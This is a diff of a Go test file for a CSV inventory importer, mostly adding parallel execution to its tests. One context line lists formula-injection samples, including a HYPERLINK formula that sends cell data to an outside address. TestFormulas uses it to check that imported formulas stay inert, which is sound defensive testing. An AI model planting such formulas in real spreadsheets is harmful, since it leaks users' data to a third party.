@@ -218,6 +218,7 @@ const memoryOfABadInput = 400 << 20
 
 // TestBadInput brings in what cannot be read: one clear line, status 1, the inventory as it was, and the server stays up.
 func TestBadInput(t *testing.T) {
+	t.Parallel()
 	s := newSite(t)
 	s.write("good.csv", goodCSV)
 	s.must("import", "good.csv", "--source", "cmms", "--at", "2026-03-01")
@@ -298,6 +299,7 @@ var live = []string{`=HYPERLINK("http://192.0.2.9/?x="&A1,"open")`, `=1+1`, `+1+
 // TestFormulas brings formulas in as text, and no export makes them live again: checked with LibreOffice, which is
 // first shown to run them when it is handed the file as it came.
 func TestFormulas(t *testing.T) {
+	t.Parallel()
 	s := newSite(t)
 	var in bytes.Buffer
 	w := csv.NewWriter(&in)
@@ -378,7 +380,7 @@ func TestHostileText(t *testing.T) {
 
 // TestTwoImportsAtOnce starts two imports together: one waits for the other and both are complete.
 func TestTwoImportsAtOnce(t *testing.T) {
-	inMemory(t)
+	t.Parallel()
 	eachDatabase(t, func(t *testing.T, s *site) {
 		var text bytes.Buffer
 		if err := demo.WriteCSV(&text, 4000, 5); err != nil {
@@ -411,9 +413,10 @@ func TestTwoImportsAtOnce(t *testing.T) {
 
 // eachDatabase runs the body on a site with SQLite and on one with PostgreSQL.
 func eachDatabase(t *testing.T, body func(t *testing.T, s *site)) {
-	t.Run("sqlite", func(t *testing.T) { body(t, newSite(t)) })
+	t.Run("sqlite", func(t *testing.T) { t.Parallel(); body(t, memorySite(t)) })
 	t.Run("postgres", func(t *testing.T) {
-		s := newSite(t)
+		t.Parallel()
+		s := memorySite(t)
 		s.dsn = sqldbtest.Postgres(t, schemas()).DSN
 		body(t, s)
 	})
@@ -421,7 +424,7 @@ func eachDatabase(t *testing.T, body func(t *testing.T, s *site)) {
 
 // TestFullDisk has an import run out of room: one clear line, nothing of it stays, and with room it goes through.
 func TestFullDisk(t *testing.T) {
-	inMemory(t)
+	t.Parallel()
 	s := newSite(t)
 	s.write("good.csv", goodCSV)
 	var text bytes.Buffer
